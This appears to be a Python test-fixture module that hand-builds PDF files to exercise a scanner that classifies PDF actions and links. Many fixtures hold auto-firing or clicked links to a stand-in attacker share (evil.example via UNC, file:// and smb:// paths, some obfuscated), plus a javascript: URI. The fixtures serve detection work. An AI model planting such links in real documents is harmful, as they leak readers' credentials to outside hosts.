"""PDF documents written by hand, with actions, links and references to other files."""

from __future__ import annotations

import struct
import zlib

SHARE = rb"(\\\\evil.example\\share\\a.pdf)"
ADDRESS = b"<< /S /URI /URI (https://a.example/) >>"
TO_SHARE = b"<< /S /GoToR /D [0 /Fit] /F " + SHARE + b" >>"
TO_PAGE = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def pdf(
    catalog: bytes = b"", page: bytes = b"", further: tuple[bytes, ...] = (), pages: bytes = b""
) -> bytes:
    """A document of one page with these entries in its catalogue, page tree and page, and further
    objects from number 4 on.
    """
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 " + pages + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] " + page + b" >>",
        *further,
    ]
    written, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(bodies) + 1,
        len(written),
    )
    return written + table + end


def packed_pdf(catalog: bytes, action: bytes) -> bytes:
    """A document of one page whose objects are all in a compressed stream; `action` is number 4."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>",
        action,
    ]
    index, objects = b"", b""
    for number, body in enumerate(bodies, 1):
        index += b"%d %d " % (number, len(objects))
        objects += body + b" "
    packed = zlib.compress(index + objects)
    head = b"%PDF-1.7\n"
    stream = (
        b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(index), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    rows = b"\x00\x00\x00\xff"
    rows += b"".join(struct.pack(">BHB", 2, 5, each) for each in range(4))
    rows += struct.pack(">BHB", 1, len(head), 0)
    rows += struct.pack(">BHB", 1, len(head + stream), 0)
    table = b"6 0 obj\n<< /Type /XRef /W [1 2 1] /Size 7 /Root 1 0 R /Length %d >>\nstream\n" % len(
        rows
    )
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % len(head + stream)
    return head + stream + table + rows + end


def _link(action: bytes) -> bytes:
    """A document with a link that has this action."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>"
    return pdf(page=b"/Annots [4 0 R]", further=(link,))


def _field(events: bytes) -> bytes:
    """A document with a form field that has this action on its own events."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA %s >>" % events
    return pdf(b"/AcroForm << /Fields [4 0 R] >>", b"/Annots [4 0 R]", (field,))


def _stream(entries: bytes) -> bytes:
    return b"<< /Length 0 " + entries + b" >>\nstream\n\nendstream"


AUTOMATIC: dict[str, bytes] = {
    "address on opening": pdf(b"/OpenAction " + ADDRESS),
    "address in an object of its own": pdf(b"/OpenAction 4 0 R", further=(ADDRESS,)),
    "share on opening": pdf(b"/OpenAction " + TO_SHARE),
    "file beside on opening": pdf(b"/OpenAction << /S /GoToR /F (b.pdf) /D [0 /Fit] >>"),
    "thread of another file on opening": pdf(b"/OpenAction << /S /Thread /F (b.pdf) /D 0 >>"),
    "view of a model on opening": pdf(b"/OpenAction << /S /GoTo3DView /TA 3 0 R /V 0 >>"),
    "sound on opening": pdf(b"/OpenAction << /S /Sound /Sound 3 0 R >>"),
    "unknown kind on opening": pdf(b"/OpenAction << /S /Whatever >>"),
    "kind without a name on opening": pdf(b"/OpenAction << /URI (https://a.example/) >>"),
    "address after a harmless one": pdf(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + ADDRESS + b" >>"
    ),
    "address in a list of next ones": pdf(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ %s 4 0 R ] >>" % TO_PAGE,
        further=(ADDRESS,),
    ),
    "actions that follow each other for ever": pdf(
        b"/OpenAction 4 0 R", further=(b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",)
    ),
    "kind in an object of its own": pdf(
        b"/OpenAction << /S 4 0 R /URI (https://a.example/) >>", further=(b"/URI",)
    ),
    "name with escapes": pdf(b"/Open#41ction << /S /#55RI /URI (https://a.example/) >>"),
    "address before closing": pdf(b"/AA << /WC " + ADDRESS + b" >>"),
    "share when a page opens": pdf(page=b"/AA << /O " + TO_SHARE + b" >>"),
    "address when a page closes": pdf(page=b"/AA 4 0 R", further=(b"<< /C 5 0 R >>", ADDRESS)),
    "address when a field shows": _field(b"<< /PV " + ADDRESS + b" >>"),
    "share under the pointer": _field(b"<< /E " + TO_SHARE + b" >>"),
    "address when a link's page opens": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /PO %s >> >>]"
        % ADDRESS
    ),
    "step of a presentation": pdf(
        page=b"/PresSteps 4 0 R", further=(b"<< /Type /NavNode /NA " + ADDRESS + b" >>",)
    ),
}
"""Documents that open something without a click."""

FETCHING: dict[str, bytes] = {
    "content in another file": pdf(page=b"/Contents 4 0 R", further=(_stream(b"/F " + SHARE),)),
    "content at an address": pdf(
        page=b"/Contents 4 0 R",
        further=(_stream(b"/F << /FS /URL /F (https://a.example/x) >>"),),
    ),
    "page of another file": pdf(
        page=b"/Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R",
        further=(
            _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (b.pdf) /Page 0 >>"),
            b"<< /Length 4 >>\nstream\n/X Do\nendstream",
        ),
    ),
}
"""Documents that fetch something to be shown."""

CLICKED_SHARES: dict[str, bytes] = {
    "share": _link(TO_SHARE),
    "share with slashes": _link(b"<< /S /GoToR /D [0 /Fit] /F (//evil.example/share/a.pdf) >>"),
    "share in UTF-16": _link(
        b"<< /S /GoToR /D [0 /Fit] /F <%s> >>"
        % ("\ufeff" + r"\\evil\a.pdf").encode("utf-16-be").hex().encode()
    ),
    "share in a specification": _link(
        b"<< /S /GoToR /D [0 /Fit] /F << /Type /Filespec /F (a.pdf) /UF " + SHARE + b" >> >>"
    ),
    "address as a file": _link(
        b"<< /S /GoToR /D [0 /Fit] /F << /FS /URL /F (https://a.example/a.pdf) >> >>"
    ),
    "thread on a share": _link(b"<< /S /Thread /D 0 /F " + SHARE + b" >>"),
    "specification alone": pdf(further=(b"<< /Type /Filespec /F " + SHARE + b" >>",)),
    "address of a share": _link(b"<< /S /URI /URI " + SHARE + b" >>"),
    "file on a host": _link(b"<< /S /URI /URI (file://evil.example/share/a.pdf) >>"),
    "file on a host, hidden": _link(b"<< /S /URI /URI ( FILE:%2F%2F%2F%2Fevil.example/a.pdf) >>"),
    "file on a host, backwards": _link(rb"<< /S /URI /URI (file:\\\\evil.example\\a.pdf) >>"),
    "other way to a share": _link(b"<< /S /URI /URI (smb://evil.example/share) >>"),
    "script as an address": _link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
    "base of all addresses": pdf(b"/URI << /Base (file://evil.example/share/) >>"),
}
"""Documents with a link to a network share."""

CLICKED: dict[str, bytes] = {
    "address": _link(ADDRESS),
    "mail": _link(b"<< /S /URI /URI (mailto:sales@a.example) >>"),
    "address without a scheme": _link(b"<< /S /URI /URI (www.a.example/x?y=//z) >>"),
    "file that an office program wrote": _link(b"<< /S /URI /URI (file:///C:/Offers/b.pdf) >>"),
    "file beside": _link(b"<< /S /GoToR /D [0 /Fit] /F (annexes/b.pdf) >>"),
    "page": _link(TO_PAGE),
    "page, then an address": _link(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://a.example/) >> >>"
    ),
    "bookmark": pdf(
        b"/Outlines 4 0 R",
        further=(
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
            b"<< /Title (a) /Parent 4 0 R /A " + ADDRESS + b" >>",
        ),
    ),
}
"""Documents with ordinary links."""

HARMLESS: dict[str, bytes] = {
    "opens at a page": pdf(b"/OpenAction [3 0 R /Fit]"),
    "goes to a page": pdf(b"/OpenAction " + TO_PAGE),
    "goes to a page, then prints": pdf(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>"
    ),
    "flips a page": pdf(page=b"/AA << /O << /S /Named /N /NextPage >> >>"),
    "flags of an annotation": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /F 4 >>]"
    ),
    "tagged": pdf(b"/StructTreeRoot << /Type /StructTreeRoot /K << /S /Figure /Alt (a) >> >>"),
    "font called F": pdf(
        page=b"/Resources << /Font << /F << /Type /Font /Subtype /Type1 >> >> /XObject << /F 4 0 R"
        b" >> >>",
        further=(_stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),),
    ),
}
"""Documents that do nothing to anybody."""
